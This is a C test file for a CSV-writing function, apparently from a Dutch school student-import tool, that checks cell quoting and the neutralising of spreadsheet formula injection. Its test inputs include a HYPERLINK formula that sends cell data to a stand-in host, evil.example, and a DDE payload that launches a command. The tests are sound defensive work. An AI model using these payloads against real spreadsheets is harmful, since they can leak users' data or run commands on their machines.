/* csv_cell_safe: quoting, formula-injection neutralisation, and that what
 * it writes reads back through csv_parse_students with either delimiter. */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "csv.h"
#include "tap.h"

static const char	*cell(const char *);
static void		 round_trip(char);

/* in as a cell, in a buffer reused by the next call; cell(NULL) frees. */
static const char *
cell(const char *in)
{
	static struct buf	 b;

	buf_free(&b);
	buf_init(&b, 4096);
	if (in == NULL || csv_cell_safe(in, &b) != DDD_OK)
		return NULL;
	return b.ptr != NULL ? b.ptr : "";
}

/* Names that need care, written as cells with delimiter d, parsed back. */
static void
round_trip(char d)
{
	static const char *const names[] = {
		"Jansen", "=1+2", "+31612345678", "-Min", "@SUM(A1)",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
		"Vries, de", "a;b", "Jan \"Jantje\"", "  =spaties",
		"'t Hart", "O'Brien", "Zoë", "x\"", "\"",
	};
	struct student_list	 l;
	struct buf		 csv, r;
	const char		*want;
	char			 expect[256];
	size_t			 i;
	int			 same = 1;

	csv_students_init(&l);
	buf_init(&csv, 65536);
	buf_init(&r, CSV_REPORT_CAP);
	buf_printf(&csv, "leerlingnummer%croepnaam%cachternaam%c"
	    "geboortedatum%cklas\r\n", d, d, d, d);
	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		buf_printf(&csv, "%zu%c", i + 1, d);
		csv_cell_safe(names[i], &csv);
		buf_printf(&csv, "%cX%c2009-01-01%c4a\r\n", d, d, d);
	}
	is_int(csv_parse_students(csv.ptr, csv.len, &l, &r), DDD_OK,
	    "cells read back with '%c'", d);
	if (l.n != sizeof(names) / sizeof(names[0])) {
		diag(r.ptr);
		same = 0;
	}
	for (i = 0; same && i < l.n; i++) {
		/* Leading spaces are trimmed by the import. */
		want = names[i];
		if (strchr("=+-@", want[0]) != NULL ||
		    strcmp(want, "  =spaties") == 0) {
			snprintf(expect, sizeof(expect), "'%s", want);
			want = expect;
		}
		if (strcmp(l.v[i].roepnaam, want) != 0) {
			printf("# got '%s', want '%s'\n", l.v[i].roepnaam,
			    want);
			same = 0;
		}
	}
	ok(same, "  each name back, with the apostrophe where added");
	csv_students_free(&l);
	buf_free(&csv);
	buf_free(&r);
}

int
main(void)
{
	struct buf	 b;

	is_str(cell("Jansen"), "Jansen", "plain text as is");
	is_str(cell(""), "", "empty cell");
	is_str(cell("Zoë van 't Hof"), "Zoë van 't Hof", "UTF-8, apostrophe");

	is_str(cell("=1+2"), "'=1+2", "= neutralised");
	is_str(cell("+31612345678"), "'+31612345678", "+ neutralised");
	is_str(cell("-5"), "'-5", "- neutralised (also numbers)");
	is_str(cell("@SUM(A1)"), "'@SUM(A1)", "@ neutralised");
	is_str(cell("\t=1"), "\"'\t=1\"", "TAB first: neutralised, quoted");
	is_str(cell("\r=1"), "\"'\r=1\"", "CR first: neutralised, quoted");
	is_str(cell("\n=1"), "\"'\n=1\"", "LF first: neutralised, quoted");
	is_str(cell("  =1"), "\"'  =1\"", "after leading spaces too");
	is_str(cell("=HYPERLINK(\"http://x/\";\"y\")"),
	    "\"'=HYPERLINK(\"\"http://x/\"\";\"\"y\"\")\"",
	    "formula with quotes and ';': quoted, doubled, neutralised");
	is_str(cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0",
	    "DDE payload neutralised");
	is_str(cell("a=b"), "a=b", "'=' not first: as is");
	is_str(cell("Jan-Piet"), "Jan-Piet", "'-' not first: as is");
	is_str(cell("x@example.nl"), "x@example.nl", "e-mail as is");

	is_str(cell("a;b"), "\"a;b\"", "';' quoted");
	is_str(cell("Vries, de"), "\"Vries, de\"", "',' quoted");
	is_str(cell("Jan \"J\""), "\"Jan \"\"J\"\"\"", "'\"' doubled");
	is_str(cell("\""), "\"\"\"\"", "lone quote");
	is_str(cell("twee\nregels"), "\"twee\nregels\"", "LF quoted");
	is_str(cell("a\tb"), "\"a\tb\"", "TAB quoted");
	is_str(cell(" x"), "\" x\"", "leading space kept by quoting");
	is_str(cell("x "), "\"x \"", "trailing space kept by quoting");

	buf_init(&b, 10);
	buf_addstr(&b, "ab;");
	is_int(csv_cell_safe("c", &b), DDD_OK, "appends");
	is_str(b.ptr, "ab;c", "after what was there");
	is_int(csv_cell_safe("=\"too long\"", &b), DDD_ERR_TOO_LARGE,
	    "over the buffer cap");
	is_str(b.ptr, "ab;c", "buffer unchanged on error");
	is_int(b.len, 4, "length unchanged");
	is_int(csv_cell_safe(NULL, &b), DDD_ERR_INTERNAL, "NULL in");
	is_int(csv_cell_safe("x", NULL), DDD_ERR_INTERNAL, "NULL out");
	buf_free(&b);

	round_trip(';');
	round_trip(',');
	cell(NULL);
	return done_testing();
}
